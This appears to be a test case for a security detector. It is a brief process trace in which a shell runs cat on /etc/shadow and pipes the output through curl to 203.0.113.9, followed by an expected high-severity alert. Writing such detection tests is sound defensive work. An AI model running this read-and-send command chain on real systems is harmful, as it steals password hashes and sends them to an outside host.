# A script reads keys and sends them.
sh is /bin/bash
sh fork cat
cat exec /bin/cat "cat /etc/shadow"
cat read /etc/shadow
sh fork curl
curl exec /usr/bin/curl "curl --data-binary @- http://203.0.113.9"
curl connect tcp:10.0.0.1:40000>203.0.113.9:80
expect high reads secrets, then connects out
